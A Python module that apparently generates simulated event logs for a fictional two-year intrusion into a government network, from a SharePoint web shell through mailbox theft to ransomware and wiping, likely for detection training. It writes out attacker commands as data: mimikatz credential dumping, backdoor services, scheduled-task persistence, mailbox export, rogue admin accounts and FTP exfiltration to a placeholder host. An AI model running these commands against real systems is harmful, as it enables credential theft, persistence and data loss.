"""The first wave: in through SharePoint in May 2021, mail stolen for months, encryption and wiping on 15 July 2022."""

from __future__ import annotations

from .chance import Chance
from .facts import CMD, EXPLORER, SERVICES, SYSTEM, W3WP, Account, Teller, process_of, subject, target
from .intruder import (
    C2,
    DROP,
    RELAY,
    dump_lsass,
    encrypt,
    phone_home,
    receive_tool,
    run_tool,
    switch_off_defender,
    through_shell,
    wipe,
)
from .moments import DAY, HOUR, MINUTE, SECOND, at
from .world import hosts, sid, table

POOL: Account = ("QEVERIA", "svc-sharepoint")
ADMINISTRATOR: Account = ("QEVERIA", "Administrator")
EXCHANGE_ADMIN: Account = ("QEVERIA", "a.kelmendi")
CLERK: Account = ("QEVERIA", "gëzim.çela")
MADE: Account = ("QEVERIA", "HealthMailbox7f3c21")

LAYOUTS = "C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\15\\TEMPLATE\\LAYOUTS"
OWA_AUTH = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"
BACKDOOR = "C:\\Windows\\System32\\tlsvc.exe"
SERVICE = "TLSPolicyHelper"
TASK = "\\Microsoft\\Windows\\Servicing\\StoreSyncCore"
EXCHANGE_TASK = "\\Microsoft\\Windows\\NetTrace\\OwaCacheRefresh"

WAVE = at("2022-07-15 00:00")


def _enter(teller: Teller) -> None:
    """Come in through the Internet-facing SharePoint server, leave a web shell, look around."""
    shp = hosts()["UJ-SHP01"]
    moment = at("2021-05-18 09:42:17")
    teller.recorder.stage("wave1:access")
    worker = process_of(shp, moment - 40 * MINUTE, W3WP)
    shell = teller.process(
        shp, moment, CMD, '"cmd.exe" /c whoami', worker, POOL, directory="c:\\windows\\system32\\inetsrv\\"
    )
    teller.process(shp, moment + SECOND // 2, "C:\\Windows\\System32\\whoami.exe", "whoami", shell, POOL)
    teller.file(shp, moment + 74 * SECOND, worker, POOL, f"{LAYOUTS}\\pickers.aspx")
    teller.connection(shp, moment + 90 * SECOND, worker, POOL, C2, 443)
    teller.recorder.stage("wave1:discovery")
    moment += 11 * MINUTE
    for command, image in (
        ("ipconfig /all", "C:\\Windows\\System32\\ipconfig.exe"),
        ('net group "domain admins" /domain', "C:\\Windows\\System32\\net.exe"),
        ("nltest /dclist:qeveria.example", "C:\\Windows\\System32\\nltest.exe"),
        ("dir D:\\SharePoint", ""),
    ):
        through_shell(teller, shp, moment, POOL, command, image)
        moment += 3 * MINUTE + 7 * SECOND


def _dwell(teller: Teller, chance: Chance) -> None:
    """Look in now and then, for fourteen months."""
    shp = hosts()["UJ-SHP01"]
    teller.recorder.stage("wave1:dwell")
    for day in (
        "2021-06-03",
        "2021-06-24",
        "2021-08-05",
        "2021-09-02",
        "2021-11-25",
        "2022-02-03",
        "2022-04-12",
        "2022-06-02",
    ):
        moment = at(day + " 06:30") + chance.below(10 * HOUR)
        through_shell(teller, shp, moment, POOL, "whoami", "C:\\Windows\\System32\\whoami.exe")
        through_shell(teller, shp, moment + 90 * SECOND, POOL, "dir C:\\Windows\\Temp")
        worker = process_of(shp, moment - HOUR, W3WP)
        phone_home(teller, shp, moment + 3 * MINUTE, worker, POOL, RELAY if chance.below(3) else C2, "-")


def _move(teller: Teller) -> None:
    """Take credentials, scan, and move to the mail server by remote desktop."""
    shp, exch = hosts()["UJ-SHP01"], hosts()["UJ-EXCH01"]
    moment = at("2021-07-12 21:16:40")
    teller.recorder.stage("wave1:credentials")
    dump_lsass(teller, shp, moment, POOL, through_shell(teller, shp, moment - SECOND, POOL, "tasklist /svc"))
    teller.recorder.stage("wave1:lateral")
    moment = at("2021-07-13 20:02:09")
    scan = through_shell(teller, shp, moment, POOL, "C:\\Windows\\Temp\\aps.exe")
    run_tool(teller, shp, moment + SECOND, "C:\\Windows\\Temp\\aps.exe", "/r:10.20.0.1-10.20.4.254", scan, POOL)
    moment = at("2021-07-13 22:31:55")
    logon = teller.logon(exch, moment, ADMINISTRATOR, 10, shp.ip, special=True, minutes=48)
    desktop = process_of(exch, moment, EXPLORER)
    shell = teller.process(
        exch, moment + 2 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"', desktop, ADMINISTRATOR, logon=logon
    )
    teller.recorder.stage("wave1:persistence")
    teller.file(exch, moment + 6 * MINUTE, desktop, ADMINISTRATOR, f"{OWA_AUTH}\\error4.aspx")
    arguments = f'/c copy /y C:\\ProgramData\\e4.bak "{OWA_AUTH}\\error4.aspx"'
    command = f'schtasks /create /tn {EXCHANGE_TASK} /sc daily /st 03:10 /ru SYSTEM /tr "cmd.exe {arguments}"'
    teller.process(
        exch, moment + 9 * MINUTE, "C:\\Windows\\System32\\schtasks.exe", command, shell, ADMINISTRATOR, logon=logon
    )
    teller.task(exch, moment + 9 * MINUTE + SECOND, EXCHANGE_TASK, "cmd.exe", arguments, ADMINISTRATOR, logon)
    moment = at("2021-11-09 08:21:33")
    worker = process_of(shp, moment - 40 * MINUTE, W3WP)
    teller.file(shp, moment, worker, POOL, f"{LAYOUTS}\\ClientBin.aspx")


def _steal_mail(teller: Teller, chance: Chance) -> None:
    """Search mailboxes, export them, and take them out over HTTP, October 2021 to January 2022."""
    exch, controller = hosts()["UJ-EXCH01"], hosts()["UJ-DC01"]
    teller.recorder.stage("wave1:mail-theft")
    moment = at("2021-10-06 19:12:48")
    teller.logon(exch, moment - MINUTE, EXCHANGE_ADMIN, 3, hosts()["UJ-SHP01"].ip, special=True, minutes=95)
    for number, text in enumerate(
        (
            'New-ManagementRoleAssignment -Name:"Mbështetja" -Role:ApplicationImpersonation -User:a.kelmendi',
            "Get-Recipient -ResultSize Unlimited | Select-Object Name,PrimarySmtpAddress,RecipientTypeDetails",
            'New-MailboxSearch -Name "kontroll-7" -SourceMailboxes all '
            "-SearchQuery 'admin* OR fjalëkalim* OR vpn' -TargetMailbox a.kelmendi",
        )
    ):
        teller.script(exch, moment + number * 4 * MINUTE, text, EXCHANGE_ADMIN)
    folder = "C:\\inetpub\\wwwroot\\aspnet_client\\bak"
    for day, boxes in (
        ("2021-10-07", ("ministri", "kabineti")),
        ("2021-11-11", ("ministri", "juridiku")),
        ("2021-12-09", ("kabineti", "prokurimet")),
        ("2022-01-13", ("ministri", "kabineti", "it.admin")),
    ):
        moment = at(day + " 20:00") + chance.below(2 * HOUR)
        worker = process_of(exch, moment - HOUR, W3WP)
        for box in boxes:
            path = f"{folder}\\{box}.pst"
            share = path.replace("C:", "\\\\UJ-EXCH01\\c$")
            teller.script(exch, moment, f'New-MailboxExportRequest -Mailbox {box} -FilePath "{share}"', EXCHANGE_ADMIN)
            teller.file(exch, moment + 8 * MINUTE, process_of(exch, moment, "System"), SYSTEM, path)
            teller.connection(exch, moment + 31 * MINUTE, worker, SYSTEM, DROP, 443)
            moment += 50 * MINUTE
        teller.script(
            exch, moment, "Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false", EXCHANGE_ADMIN
        )
    teller.recorder.stage("wave1:persistence")
    moment = at("2022-01-19 21:40:02")
    logon = teller.logon(controller, moment - 2 * SECOND, ADMINISTRATOR, 3, exch.ip, exch.name, special=True)
    teller.event(
        controller,
        moment,
        "Security/4720",
        **target(MADE),
        **subject(ADMINISTRATOR, logon),
        SamAccountName=MADE[1],
        DisplayName=MADE[1],
        UserPrincipalName=MADE[1] + "@qeveria.example",
    )
    teller.event(controller, moment + SECOND, "Security/4722", **target(MADE), **subject(ADMINISTRATOR, logon))
    teller.event(
        controller,
        moment + 40 * SECOND,
        "Security/4756",
        **subject(ADMINISTRATOR, logon),
        MemberName=f"CN={MADE[1]},CN=Monitoring Mailboxes,CN=Microsoft Exchange System Objects,DC=qeveria,DC=example",
        MemberSid=sid(*MADE),
        TargetUserName="Organization Management",
        TargetDomainName="QEVERIA",
        TargetSid=sid("QEVERIA", "Organization Management"),
    )
    teller.logon(exch, moment + 3 * DAY, MADE, 3, hosts()["UJ-SHP01"].ip, special=True)


def _dig_in(teller: Teller, chance: Chance) -> None:
    """A service on the domain controller, a task on the file server, more credentials, a workstation."""
    controller, files, desk = (hosts()[name] for name in ("UJ-DC01", "UJ-FS01", "UJ-WS014"))
    teller.recorder.stage("wave1:persistence")
    moment = at("2022-02-16 22:05:31")
    logon = teller.logon(
        controller, moment - MINUTE, ADMINISTRATOR, 10, hosts()["UJ-EXCH01"].ip, special=True, minutes=35
    )
    desktop = process_of(controller, moment, EXPLORER)
    teller.file(controller, moment, desktop, ADMINISTRATOR, BACKDOOR)
    shell = teller.process(
        controller, moment + 50 * SECOND, CMD, '"C:\\Windows\\system32\\cmd.exe"', desktop, ADMINISTRATOR, logon=logon
    )
    command = f'sc create {SERVICE} binPath= "{BACKDOOR} -k netsvcs" start= auto DisplayName= "TLS Policy Helper"'
    teller.process(
        controller, moment + 70 * SECOND, "C:\\Windows\\System32\\sc.exe", command, shell, ADMINISTRATOR, logon=logon
    )
    teller.service(controller, moment + 71 * SECOND, SERVICE, f"{BACKDOOR} -k netsvcs", ADMINISTRATOR, logon)
    teller.service_state(controller, moment + 80 * SECOND, "TLS Policy Helper", "running")
    service = run_tool(
        teller,
        controller,
        moment + 80 * SECOND,
        BACKDOOR,
        "-k netsvcs",
        process_of(controller, moment - DAY, SERVICES),
        SYSTEM,
    )
    teller.recorder.stage("wave1:command-and-control")
    beat = moment + 2 * MINUTE
    while beat < at("2022-07-15 15:00"):
        phone_home(teller, controller, beat, service, SYSTEM)
        beat += 5 * DAY + chance.below(4 * DAY)
    teller.recorder.stage("wave1:persistence")
    moment = at("2022-03-03 19:48:26")
    logon = teller.logon(files, moment - MINUTE, ADMINISTRATOR, 10, controller.ip, special=True, minutes=30)
    shell = process_of(files, moment, CMD)
    arguments = "-NoP -W Hidden -File C:\\ProgramData\\Microsoft\\Network\\sync.ps1"
    command = f'schtasks /create /tn {TASK} /sc daily /st 03:10 /ru SYSTEM /tr "powershell.exe {arguments}"'
    teller.process(files, moment, "C:\\Windows\\System32\\schtasks.exe", command, shell, ADMINISTRATOR, logon=logon)
    teller.task(files, moment + SECOND, TASK, "powershell.exe", arguments, ADMINISTRATOR, logon)
    teller.recorder.stage("wave1:credentials")
    moment = at("2022-05-10 21:33:12")
    logon = teller.logon(controller, moment - 3 * MINUTE, ADMINISTRATOR, 10, files.ip, special=True, minutes=55)
    shell = process_of(controller, moment - MINUTE, CMD)
    tool = run_tool(
        teller,
        controller,
        moment,
        "C:\\Windows\\Temp\\m64.exe",
        "privilege::debug sekurlsa::logonpasswords exit",
        shell,
        ADMINISTRATOR,
        logon,
    )
    teller.access(
        controller,
        moment + SECOND,
        tool,
        ADMINISTRATOR,
        "0x1010",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc44|C:\\Windows\\System32\\KERNELBASE.dll+20d5e|C:\\Windows\\Temp\\m64.exe+c4ad8",
    )
    teller.recorder.stage("wave1:exfiltration")
    moment = at("2022-05-24 20:47:50")
    teller.logon(files, moment - MINUTE, ADMINISTRATOR, 3, controller.ip, controller.name, special=True)
    transfer = teller.process(
        files,
        moment,
        "C:\\Windows\\System32\\ftp.exe",
        f"ftp -s:C:\\Windows\\Temp\\f.txt {DROP}",
        process_of(files, moment - MINUTE, CMD),
        ADMINISTRATOR,
    )
    teller.connection(files, moment + SECOND, transfer, ADMINISTRATOR, DROP, 21)
    teller.recorder.stage("wave1:lateral")
    moment = at("2022-06-14 19:58:03")
    logon = teller.logon(desk, moment, ADMINISTRATOR, 3, controller.ip, controller.name, special=True)
    script = "%TEMP%\\execute.bat"
    remote = (
        f"%COMSPEC% /Q /c echo cd ^> \\\\{controller.ip}\\C$\\__output 2^>^&1 > {script} & %COMSPEC% /Q /c {script}"
    )
    teller.service(desk, moment + SECOND, "BTOBTO", remote, ADMINISTRATOR, logon, start="demand start")
    teller.process(
        desk,
        moment + 2 * SECOND,
        CMD,
        remote.replace("%COMSPEC%", CMD),
        process_of(desk, moment - DAY, SERVICES),
        SYSTEM,
    )
    teller.logon(files, moment + DAY, CLERK, 3, desk.ip, minutes=55)
    teller.logon(hosts()["UJ-EXCH01"], moment + DAY + HOUR, CLERK, 3, controller.ip, minutes=15)


def _strike(teller: Teller) -> None:
    """15 July 2022: Defender off, the spreader, encryption, then the wiper."""
    shp, files, desk, controller, exch = (
        hosts()[name] for name in ("UJ-SHP01", "UJ-FS01", "UJ-WS014", "UJ-DC01", "UJ-EXCH01")
    )
    teller.recorder.stage("wave1:defence-evasion")
    logons = {}
    for number, host in enumerate((exch, files, shp, desk)):
        moment = WAVE + 10 * HOUR + 31 * MINUTE + number * 4 * MINUTE
        logons[host.name] = teller.logon(
            host, moment, ADMINISTRATOR, 3, controller.ip, controller.name, special=True, minutes=110
        )
        switch_off_defender(teller, host, moment + 10 * SECOND, ADMINISTRATOR, logons[host.name])
    teller.recorder.stage("wave1:spread")
    moment = WAVE + 11 * HOUR + 2 * MINUTE
    logon = teller.logon(controller, moment - MINUTE, ADMINISTRATOR, 10, exch.ip, special=True, minutes=150)
    shell = process_of(controller, moment - SECOND, CMD)
    spreader = run_tool(
        teller,
        controller,
        moment,
        "C:\\ProgramData\\Mellona.exe",
        "C:\\ProgramData\\hosts.txt",
        shell,
        ADMINISTRATOR,
        logon,
    )
    for number, host in enumerate((files, shp, desk)):
        when = moment + (number + 1) * 45 * SECOND
        teller.connection(controller, when, spreader, ADMINISTRATOR, host.ip, 445, host.fqdn)
        receive_tool(teller, host, when + SECOND, "GoXML.exe", controller.ip, ADMINISTRATOR, "C:\\ProgramData")
        receive_tool(teller, host, when + 3 * SECOND, "win.bat", controller.ip, ADMINISTRATOR, "C:\\ProgramData")
    teller.recorder.stage("wave1:encryption")
    world = table("world")
    documents = world["documents"]
    for number, (host, root) in enumerate(
        ((shp, "D:\\SharePoint\\Skedarë"), (files, "D:\\Dokumente"), (desk, "C:\\Users\\gëzim.çela\\Documents"))
    ):
        folders = [f"{root}\\{name}" for name in (world["departments"] if host is files else world["departments"][:2])]
        encrypt(
            teller,
            host,
            WAVE + 12 * HOUR + (5 + 4 * number) * MINUTE,
            ADMINISTRATOR,
            logons[host.name],
            folders,
            documents,
        )
    teller.recorder.stage("wave1:wiping")
    for host, moment in ((shp, WAVE + 12 * HOUR + 47 * MINUTE), (files, WAVE + 13 * HOUR + 5 * MINUTE)):
        receive_tool(teller, host, moment - 6 * MINUTE, "cl.exe", controller.ip, ADMINISTRATOR, "C:\\Windows\\Temp")
        wipe(teller, host, moment, ADMINISTRATOR, logons[host.name])


def first_wave(teller: Teller, seed: int) -> None:
    """Tell the first wave, from first access to wiping."""
    chance = Chance(seed, "first wave")
    _enter(teller)
    _dwell(teller, chance)
    _move(teller)
    _steal_mail(teller, chance)
    _dig_in(teller, chance)
    _strike(teller)
    teller.recorder.stage("")
